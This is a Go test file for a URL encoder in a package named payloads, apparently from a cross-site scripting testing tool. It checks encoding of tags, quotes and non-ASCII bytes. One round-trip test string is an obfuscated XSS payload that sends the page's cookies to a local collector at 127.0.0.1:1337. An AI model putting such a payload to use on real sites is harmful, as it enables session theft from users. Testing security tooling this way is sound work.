package payloads

import (
	"net/url"
	"testing"
)

func TestEncoder(t *testing.T) {
	enc := NewEncoder()

	tests := []struct {
		name    string
		payload string
		want    string
	}{
		{name: "Tag", payload: "<script>", want: "%3Cscript%3E"},
		{name: "Attribute", payload: "<flare onmouseover =1>", want: "%3Cflare%20onmouseover%20%3D1%3E"},
		{name: "Quotes and ampersand", payload: `'"&`, want: "%27%22%26"},
		{name: "Plus is encoded", payload: "'al'+'ert'", want: "%27al%27%2B%27ert%27"},
		{name: "Unreserved passthrough", payload: "aZ09-_.~", want: "aZ09-_.~"},
		{name: "Non-ASCII bytes", payload: "é", want: "%C3%A9"},
	}

	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			if got := enc.URLEncode(tt.payload); got != tt.want {
				t.Errorf("URLEncode() = %v, want %v", got, tt.want)
			}
		})
	}
}

func TestEncoderRoundTrip(t *testing.T) {
	enc := NewEncoder()
	for _, payload := range []string{
		"<script>",
		"flare<>",
		"<flare onmouseover=location='h'+'ttp'+':'+'/'+'/'+'127.0.0.1:1337/?c='+this['owner'+'Doc'+'ument']['cookie']>",
	} {
		got, err := url.QueryUnescape(enc.URLEncode(payload))
		if err != nil {
			t.Fatalf("QueryUnescape() error: %v", err)
		}
		if got != payload {
			t.Errorf("decode(URLEncode(%q)) = %q", payload, got)
		}
	}
}

func TestEncoderInjective(t *testing.T) {
	enc := NewEncoder()
	seen := make(map[string]string)
	for _, c := range []string{"<", ">", "&", "=", "'", `"`, " "} {
		encoded := enc.URLEncode(c)
		if encoded == c {
			t.Errorf("URLEncode(%q) left the character unencoded", c)
		}
		if prev, ok := seen[encoded]; ok {
			t.Errorf("URLEncode(%q) = URLEncode(%q) = %q", c, prev, encoded)
		}
		seen[encoded] = c
	}
}
